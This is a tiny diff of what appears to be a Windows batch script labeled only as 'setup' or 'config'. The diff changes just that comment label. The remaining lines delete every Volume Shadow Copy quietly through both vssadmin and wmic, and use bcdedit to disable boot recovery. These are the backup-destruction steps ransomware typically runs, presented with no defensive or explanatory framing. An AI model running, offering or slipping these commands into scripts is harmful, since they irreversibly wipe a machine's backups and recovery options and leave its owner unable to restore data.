@@ -1,4 +1,4 @@
-REM setup 4310 v1
+REM config 7228 v1
 vssadmin delete shadows /all /quiet
 wmic shadowcopy delete
 bcdedit /set {default} recoveryenabled no
